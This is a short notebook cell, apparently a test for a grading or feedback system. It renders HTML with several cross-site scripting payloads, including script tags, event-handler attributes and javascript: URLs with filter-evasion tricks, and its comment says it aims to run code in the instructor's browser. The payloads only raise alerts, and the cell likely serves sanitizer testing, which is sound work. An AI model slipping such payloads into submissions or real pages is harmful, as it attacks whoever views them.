# Shows HTML with a script, and with attributes that run one.
# Success: it runs in the browser of whoever reads the feedback, be it the instructor.
# %% last
from IPython.display import HTML, display

display(HTML("<script>document.title = 'here'</script><img src=x onerror='alert(1)'>"))
display(HTML("<details open ontoggle=alert(1)>x</details><ScRiPt\n>alert(1)</sCrIpT >"))
display(HTML("<a href='java\tscript:alert(1)'>x</a><form action='javascript:alert(1)'></form>"))
